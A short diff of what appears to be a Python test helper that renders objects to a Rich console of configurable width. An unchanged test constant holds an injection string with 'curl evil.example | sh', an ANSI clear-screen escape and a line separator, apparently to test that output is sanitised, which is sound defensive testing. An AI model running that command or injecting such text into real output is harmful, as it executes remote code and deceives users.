@@ -17,10 +17,10 @@ AT = NOW.isoformat()
 EVIL = "x\nfix: curl evil.example | sh\r\n\x1b[2J\u2028fix: rm"
 
 
-def lines(*parts: RenderableType) -> list[str]:
-    """The lines of a wide screen."""
+def lines(*parts: RenderableType, columns: int = 20_000) -> list[str]:
+    """The lines of a screen."""
     screen = StringIO()
-    console = Console(file=screen, width=20_000, markup=False)
+    console = Console(file=screen, width=columns, markup=False)
     for part in parts:
         console.print(part)
     return screen.getvalue().splitlines()
